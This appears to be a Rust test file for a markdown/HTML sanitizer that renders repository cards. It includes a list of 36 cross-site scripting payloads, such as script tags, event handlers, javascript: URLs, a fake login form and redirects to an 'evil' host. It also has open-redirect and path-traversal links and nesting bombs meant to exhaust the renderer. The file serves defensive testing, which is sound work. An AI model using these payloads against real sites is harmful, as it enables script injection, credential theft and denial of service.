//! Scripts that try to get onto our page, text that tries to keep the server busy, and cards as they are.

use super::*;

/// Tags of a fragment, to look at without being fooled by escaped text.
fn tags(html: &str) -> Vec<String> {
    html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default().to_owned()).collect()
}

#[test]
fn markdown_as_people_write_it() {
    let html = render(
        "# Title\n\nA *word* and ~~old~~ `code` [link](https://example.org/a?b=1&c=2).\n\n\
         | a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\nNote[^1].\n\n[^1]: The note.\n",
    );
    assert!(html.contains(r#"<h2 id="card-title">Title</h2>"#), "{html}");
    assert!(html.contains("<em>word</em>") && html.contains("<del>old</del>") && html.contains("<code>code</code>"));
    assert!(html.contains(r#"href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener noreferrer ugc""#), "{html}");
    assert!(html.contains("<table>") && html.contains("<td>1</td>"), "{html}");
    assert!(html.contains("☑ done") && html.contains("☐ open"), "{html}");
    assert!(html.contains(r##"href="#card-1""##) && html.contains(r#"id="card-1""#), "{html}");
}

#[test]
fn a_line_in_plain_words() {
    let line = "A *net* of `resnet18` ~~old~~, see [how](docs/use.md) ![badge](x.svg)and <b>more</b> at a_b_c.";
    assert_eq!(plain(line), "A net of resnet18 old, see how and more at a_b_c.");
}

#[test]
fn html_as_people_write_it() {
    let html = render(
        "<div align=\"center\">\n<h1>Big</h1>\n<img src=\"https://x/y.png\" alt=\"A plot\">\n\n**bold**\n\n</div>\n\nafter <sub>small</sub><br>\n",
    );
    assert!(html.contains(r#"<div align="center">"#) && html.contains("<h2>Big</h2>") && html.contains("A plot"), "{html}");
    assert!(html.contains("<strong>bold</strong>") && html.contains("<sub>small</sub>"), "{html}");
    let close = html.find("</div>").unwrap();
    assert!(html.find("bold").unwrap() < close && close < html.find("after").unwrap(), "{html}");
    let details = render("<details><summary>More</summary>\n\ntext\n\n</details>\n");
    assert!(details.contains("<summary>More</summary>") && details.contains("<p>text</p>"), "{details}");
}

#[test]
fn only_one_h1_per_page() {
    let html = render("# a\n## b\n###### c\n\n<h1>d</h1>\n\n<H5>e</H5>\n");
    assert!(!html.contains("<h1"), "{html}");
    assert!(html.contains(">a</h2>") && html.contains(">b</h3>") && html.contains(">c</h6>"), "{html}");
    assert!(html.contains("<h2>d</h2>") && html.contains("<h6>e</h6>"), "{html}");
}

const PAYLOADS: [&str; 36] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" alt=\"<img src=x onerror=alert(2)>\">",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://evil/x.png)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\u{0}script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript&colon;alert(1)\">x</a>",
    "<a href='x' onclick='alert(1)' style='position:fixed'>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<form action=//evil><input name=token><button>Log in</button></form>",
    "<style>@import '//evil/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=//evil/x.css><base href=//evil/><meta http-equiv=refresh content='0;url=//evil'>",
    "<div style=\"background:url(javascript:alert(1))\" id=login class=admin>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>",
    "<!--><script>alert(1)</script>-->",
    "<a \"><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
];

#[test]
fn no_payload_survives() {
    let wrap = [("", ""), ("text ", " text"), ("> - ", ""), ("<div>\n", "\n</div>"), ("# ", "\n")];
    for payload in PAYLOADS {
        for (before, after) in wrap {
            let html = place(&render(&format!("{before}{payload}{after}")), "/a/b", "1");
            for tag in tags(&html) {
                let tag = tag.to_lowercase();
                let name: String = tag.trim_start_matches('/').chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
                assert!(ELEMENTS.contains(name.as_str()), "{payload}: <{tag}> in {html}");
                for bad in [" on", "style=", "src=", "javascript:", "vbscript:", "data:", "=\"//", "class=\"admin", "id=\"login"] {
                    assert!(!tag.contains(bad) || tag.contains("title="), "{payload}: <{tag}> in {html}");
                }
            }
        }
    }
}

#[test]
fn links_go_where_they_say() {
    let href = |markdown: &str| {
        let html = place(&render(markdown), "/team/model", "3");
        html.split_once("href=\"").and_then(|(_, rest)| rest.split_once('"')).map(|(href, _)| href.to_owned())
    };
    assert_eq!(href("[x](//evil.example/x)"), None);
    assert_eq!(href("<a href=\"/\\evil.example\">x</a>"), None);
    assert_eq!(href("<a href=\"\\\\evil.example\">x</a>"), None);
    assert_eq!(href("[x](/\\evil.example)").as_deref(), Some("/%5Cevil.example"), "escaped, it is a path of ours");
    assert_eq!(href("<a href=\"/\t/evil.example\">x</a>"), None);
    assert_eq!(href("<a href=\" //evil.example\">x</a>"), None);
    assert_eq!(href("[x](ftp://evil.example)"), None);
    assert_eq!(href("[x](../../admin)"), None);
    assert_eq!(href("[x](https://example.org)").as_deref(), Some("https://example.org"));
    assert_eq!(href("<https://example.org>").as_deref(), Some("https://example.org"));
    assert_eq!(href("[x](mailto:a@example.org)").as_deref(), Some("mailto:a@example.org"));
    assert_eq!(href("[x](/library/resnet50)").as_deref(), Some("/library/resnet50"));
    assert_eq!(href("[x](./plots/a.png)").as_deref(), Some("/team/model/blob/3/plots/a.png"));
    assert_eq!(href("[x](docs/use.md#how)").as_deref(), Some("/team/model/blob/3/docs/use.md#how"));
    assert_eq!(href("<a href=docs/use.md>x</a>").as_deref(), Some("/team/model/blob/3/docs/use.md"));
    assert_eq!(href("[x](tree/main)").as_deref(), Some("/team/model/tree/main"));
    assert_eq!(href("[x](#usage)").as_deref(), Some("#card-usage"));
    for outside in ["[x](a/../../b)", "[x](%2e%2e/b)", "[x](.%2E/b)", "[x](repo-file:b)", "[x](repo-page:b)", "[x](./)"] {
        assert_eq!(href(outside), None, "{outside}");
    }
}

#[test]
fn headings_have_the_names_that_links_use() {
    let html = render("# My *big* `net` (v2)!\n\n## Usage\n\n## Usage\n\n## Größe\n\n## !!!\n\n<h2 id=\"own\">Own</h2>\n");
    for name in ["card-my-big-net-v2", "card-usage", "card-usage-1", "card-größe", "card-own"] {
        assert!(html.contains(&format!("id=\"{name}\"")), "{name}: {html}");
    }
    assert!(html.contains("<h3>!!!</h3>"), "{html}");
}

#[test]
fn the_repo_s_own_pictures_are_shown() {
    let shown = |markdown: &str| place(&render(markdown), "/datasets/team/set", "2");
    let picture = r#"<img src="/datasets/team/set/resolve/2/plots/a.PNG" alt="A plot">"#;
    assert!(shown("![A plot](./plots/a.PNG)").contains(picture));
    let raw = shown("<p>\n<img width=40 onerror=x src='plots/a.png' alt='A plot'>\n</p>\n");
    assert!(
        raw.contains(r#"src="/datasets/team/set/resolve/2/plots/a.png""#) && raw.contains(r#"width="40""#) && !raw.contains("onerror"),
        "{raw}"
    );
    let linked = shown("[![A plot](plots/a.PNG)](https://example.org/)");
    assert!(linked.contains("href=\"https://example.org/\"") && linked.contains(picture), "{linked}");
    for foreign in [
        "![x](a.svg)",
        "![x](../a.png)",
        "![x](/a.png)",
        "![x](https://e.example/a.png)",
        "![x](//e.example/a.png)",
        "![x](data:image/png;base64,AA.png)",
        "<img src=repo-file:a.png>",
    ] {
        assert!(!shown(foreign).contains("<img"), "{foreign}");
    }
    let text = shown("`href=\"repo-file:x\"` and <span title='src=\"repo-file:y\"'>z</span>");
    assert!(!text.contains("<img") && text.matches("<a").count() == 0, "{text}");
}

#[test]
fn images_become_links() {
    let html = render("![A plot](https://example.org/plot.png)");
    assert!(!html.contains("<img") && html.contains("A plot</a>"), "{html}");
    let badge = render("[![badge](https://img.example/b.svg)](https://ci.example/)");
    assert!(badge.contains(r#"href="https://ci.example/""#) && badge.contains("badge</a>") && !badge.contains("img.example"), "{badge}");
}

/// Renders, and checks what makes the sanitizer slow: depth and size of what it is given.
fn check_cost(markdown: &str, name: &str) {
    let given = tidy_html(markdown);
    assert!(given.len() < 40 * markdown.len() + 4_096, "{name}: {} bytes from {}", given.len(), markdown.len());
    let (mut depth, mut deepest) = (0i64, 0);
    for tag in tags(&given) {
        let is_void = ["br", "hr", "img", "input"].iter().any(|void| tag.starts_with(void));
        depth += i64::from(!tag.starts_with('/') && !is_void) - i64::from(tag.starts_with('/'));
        deepest = deepest.max(depth);
    }
    assert_eq!(depth, 0, "{name}: every element is closed");
    // Lists and tables add elements that are not events of their own.
    assert!(deepest <= 2 * MAX_DEPTH as i64 + 8, "{name}: {deepest} deep");
    render(markdown);
}

#[test]
fn nesting_bombs_cost_little() {
    let many_bold: String = (0..400).map(|index| format!("<b title={index}>")).collect();
    let bombs = [
        (">".repeat(50_000), "quotes"),
        (format!("{} x", "> ".repeat(100_000)), "spaced quotes"),
        ("<div>".repeat(100_000), "divs"),
        ("<div>\n\n".repeat(70_000), "div blocks"),
        (format!("x {}", "<b>".repeat(100_000)), "inline bold"),
        (format!("{many_bold}\n\n{}", "a\n\n".repeat(150_000)), "bold over paragraphs"),
        (format!("<div>{many_bold}\n\n{}", "<p>a".repeat(100_000)), "bold over raw paragraphs"),
        ("- ".repeat(100_000), "lists"),
        ("*a **b ".repeat(60_000), "emphasis"),
        ("[".repeat(200_000), "brackets"),
        ("![".repeat(200_000), "images"),
        (format!("{}{}", "[a](".repeat(50_000), ")".repeat(50_000)), "links"),
        ("<table><tr><td>".repeat(30_000), "tables"),
        ("<a href=x ".repeat(40_000), "tags without end"),
        ("<!--".repeat(100_000), "comments"),
        ("`".repeat(300_000), "ticks"),
        (format!("{}\n{}\n{}", "|a".repeat(3_000), "|-".repeat(3_000), "|\n".repeat(100_000)), "wide table"),
    ];
    for (bomb, name) in bombs {
        check_cost(cut(&bomb, MAX_MARKDOWN_BYTES), name);
    }
}

#[test]
fn columns_keep_their_side() {
    let html = render("| a | b | c |\n| --- | :-: | --: |\n| x | y | `<td style=\"text-align: right\"` |\n");
    for cell in ["<th>a</th>", r#"<th align="center">b</th>"#, r#"<th align="right">c</th>"#, "<td>x</td>", r#"<td align="center">y</td>"#]
    {
        assert!(html.contains(cell), "{cell} in {html}");
    }
    assert!(html.contains("&lt;td style=") && !html.contains("<td style"), "{html}");
}

#[test]
fn deep_text_is_kept() {
    let html = render(&format!("{} deep", "> ".repeat(5_000)));
    assert!(html.contains("deep"), "{html}");
    assert!(html.matches("<blockquote>").count() <= MAX_DEPTH);
}

proptest::proptest! {
    #[test]
    fn any_text_renders_to_known_tags(text in "[<>a-c/=\"' !\\-\n*_`\\[\\](){}#|&;:.\\\\]{0,200}") {
        for tag in tags(&render(&text)) {
            let name: String = tag.trim_start_matches('/').chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
            proptest::prop_assert!(name == "img" || ELEMENTS.contains(name.as_str()), "{} in {}", tag, text);
        }
    }
}
